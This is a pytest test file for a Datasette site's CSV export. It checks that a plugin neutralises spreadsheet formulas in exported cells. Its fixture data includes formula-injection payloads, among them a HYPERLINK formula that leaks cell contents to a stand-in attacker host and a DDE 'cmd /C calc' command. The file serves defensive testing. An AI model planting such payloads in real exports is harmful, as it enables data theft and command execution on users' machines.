"""CSV as Datasette writes it: tables, streams, queries; what a spreadsheet would run is text."""

import asyncio
import csv
import io
import sqlite3
from contextlib import closing
from typing import Any

import httpx
import pytest
from datasette.app import Datasette
from datasette.utils import LimitedWriter, module_from_path

from daily_papers.site.views.text_tables import defused
from tests.conftest import ROOT, Get, client, run_in_thread

CELLS = [
    *("=1+1", '=HYPERLINK("http://evil.example?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3"),
    *("@SUM(1)", " =1", "\t1", "\r\n=1", "＝1", "a\n=1", 'b"\r\n"=1'),  # 11 that start formulas
    *("plain, with a comma", "'=1", "é漢🤗", "-0.5", "", None, -0.5, 3, -1e-05),
]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Get:
    """Ask a Datasette that serves cells which a spreadsheet would run: hostile(path, …)."""
    path = tmp_path_factory.mktemp("csv") / "hostile.db"
    with closing(sqlite3.connect(path)) as connection, connection:
        connection.execute("create table cells (id integer primary key, cell)")
        cells = [(cell,) for cell in CELLS * 60]
        connection.executemany("insert into cells (cell) values (?)", cells)
    queries = {"all": {"sql": "select * from cells where id <= :most"}}
    datasette = Datasette(
        [str(path)],
        plugins_dir=str(ROOT / "plugins"),
        metadata={"databases": {"hostile": {"queries": queries}}},
        settings={"max_returned_rows": 500},
    )
    return client(datasette)


def read(answer: httpx.Response) -> list[list[str]]:
    assert answer.status_code == 200, answer.text
    return list(csv.reader(io.StringIO(answer.content.decode(), newline="")))


def expected(first: int, last: int) -> list[list[str]]:
    cells = (CELLS * 60)[first - 1 : last]
    texts = [defused(cell) if isinstance(cell, str) else str(cell or "") for cell in cells]
    return [[str(number), text] for number, text in enumerate(texts, first)]


@pytest.mark.parametrize(
    ("path", "parameters", "last"),
    [
        ("/hostile/cells.csv", {}, 100),
        ("/hostile/cells.csv", {"_stream": "on"}, len(CELLS) * 60),
        ("/hostile/cells.csv", {"_dl": "1", "_size": "20"}, 20),
        ("/hostile/all.csv", {"most": "20"}, 20),
        ("/hostile.csv", {"sql": "select * from cells limit 20"}, 20),
    ],
    ids=["table", "stream", "download", "canned query", "query"],
)
def test_cells_are_defused(hostile: Get, path: str, parameters: dict[str, str], last: int) -> None:
    answer = hostile(path, **parameters)
    assert read(answer) == [["id", "cell"], *expected(1, last)]
    assert "_dl" not in parameters or answer.headers["content-type"].startswith("text/csv")


def test_a_stream_that_is_too_long_breaks(hostile: Get, monkeypatch: pytest.MonkeyPatch) -> None:
    """It would end with a sentence in place of the rest."""
    monkeypatch.setattr(LimitedWriter, "__init__", limited_to_2_kb)
    answer = hostile("/hostile/cells.csv", _stream="on")
    assert (answer.status_code, answer.text) == (
        400,
        "This cannot be answered in full; ask for less.\n",
    )


def limited_to_2_kb(writer: LimitedWriter, *arguments: Any) -> None:
    writer.writer, writer.limit_bytes, writer.bytes_count = arguments[0], 2_000, 0


def test_a_column_is_defused(hostile: Get) -> None:
    assert read(hostile("/hostile.csv", sql='select 1 as "=1+1"')) == [["'=1+1"], ["1"]]


def test_nothing_but_cells_that_start_formulas_changes(hostile: Get) -> None:
    sql = "select * from cells where (id - 1) % 20 >= 11 and id <= 1000"
    answer = hostile("/hostile.csv", sql=sql, _size="max")
    out = io.StringIO(newline="")
    rows = hostile("/hostile.json", sql=sql, _shape="arrays", _size="max").json()["rows"]
    csv.writer(out).writerows([["id", "cell"], *rows])
    assert len(rows) > 100
    assert answer.content == out.getvalue().encode()


def test_json_has_the_values_as_they_are(hostile: Get) -> None:
    rows = hostile("/hostile/cells.json", _shape="arrays", _size="20").json()["rows"]
    assert [cell for _, cell in rows] == CELLS
    assert hostile("/hostile/missing.csv").status_code == 404


def test_a_file_of_any_name_has_the_limits_of_sql(hostile: Get) -> None:
    answer = hostile("/hostile.json", sql="select length(randomblob(900000000))")
    assert (answer.status_code, answer.json()["error"]) == (400, "string or blob too big")


def test_the_papers_are_what_the_database_says(get: Get, db: sqlite3.Connection) -> None:
    cursor = db.execute("select * from papers")
    header, *rows = read(get("/papers/papers.csv", _stream="on"))
    assert header == [column[0] for column in cursor.description]
    texts = [["" if cell is None else defused(str(cell)) for cell in row] for row in cursor]
    assert sorted(rows) == sorted(texts)


def test_bytes_in_a_query_are_base64(get: Get) -> None:
    """Datasette writes an address for each, which has the SQL again."""
    answer = get("/papers.csv", sql="select x'00ff' as a, x'' as b, 'c' as c")
    assert answer.text.splitlines() == ["a,b,c", "AP8=,,c"]


def test_headers_tell_of_rows_that_are_missing(get: Get) -> None:
    cut = get("/papers.csv", sql="select 1 from papers, topics")
    assert (len(cut.text.splitlines()), cut.headers["x-truncated"]) == (1_001, "true")
    page = get("/papers/topics.csv", _size="20", _col="name")
    rest = get(page.links["next"]["url"].removeprefix("http://localhost"))
    whole = get("/papers/topics.csv", _size="5", _stream="on", _col="name")
    assert sorted({*page.text.splitlines(), *rest.text.splitlines()}) == sorted(
        whole.text.splitlines()
    )
    for answer in (rest, whole, get("/papers.csv", sql="select 1")):
        assert "x-truncated" not in answer.headers
        assert not answer.links


@pytest.mark.parametrize("unseen", ["\u061c", "\xad", "\u202e", "\ufe0f", "\u3164", "\U000e0020"])
def test_what_does_not_show_hides_no_formula(unseen: str) -> None:
    assert defused(f"{unseen} =1") == f"'{unseen} =1"
    assert defused(f"{unseen} 1") == f"{unseen} 1"


@pytest.fixture(scope="module")
def defusing() -> Any:
    return module_from_path(str(ROOT / "plugins" / "safe_csv.py"), "safe_csv").defusing


def through(defusing: Any, path: str, start: dict[str, Any], *bodies: bytes) -> list[Any]:
    """Send an answer through the plugin; return what comes out."""
    sent: list[Any] = []

    async def app(scope: Any, receive: Any, send: Any) -> None:
        await send({"type": "http.response.start", **start})
        for body in bodies:
            await send({"type": "http.response.body", "body": body, "more_body": True})
        await send({"type": "http.response.body"})

    async def send(message: Any) -> None:
        sent.append(message)

    run_in_thread(asyncio.run, defusing(app)({"type": "http", "path": path}, None, send))
    return sent


CSV = {"status": 200, "headers": [(b"Content-Type", b"text/csv; charset=utf-8")]}


def test_records_are_sent_on_as_they_end(defusing: Any) -> None:
    pieces = ("a\r\n=é,".encode()[:-2], "é,".encode()[1:], b"1\r", b"\n=last")
    _, *sent = through(defusing, "/x.csv", CSV, *pieces)
    bodies = [message["body"] for message in sent]
    assert bodies == [b"a\r\n", b"", b"", "'=é,1\r\n".encode(), b"'=last"]
    assert [message.get("more_body", False) for message in sent] == [True] * 4 + [False]


def test_a_length_that_may_be_wrong_is_not_sent(defusing: Any) -> None:
    start = {"status": 200, "headers": [*CSV["headers"], (b"Content-Length", b"2")]}
    headers = through(defusing, "/x.csv", start, b"=1")[0]["headers"]
    assert headers == [(b"content-type", b"text/csv; charset=utf-8")]


@pytest.mark.parametrize(
    ("path", "status", "kind"),
    [
        ("/x.csv", 404, b"text/plain"),
        ("/x.csv", 200, b"text/html; charset=utf-8"),
        ("/x.csv", 200, b"application/json"),
        ("/x.txt", 200, b"text/plain"),
    ],
)
def test_other_answers_pass_as_they_are(defusing: Any, path: str, status: int, kind: bytes) -> None:
    start = {"status": status, "headers": [(b"content-type", kind), (b"content-length", b"2")]}
    first, body, _ = through(defusing, path, start, b"=1")
    assert first == {"type": "http.response.start", **start}
    assert body["body"] == b"=1"
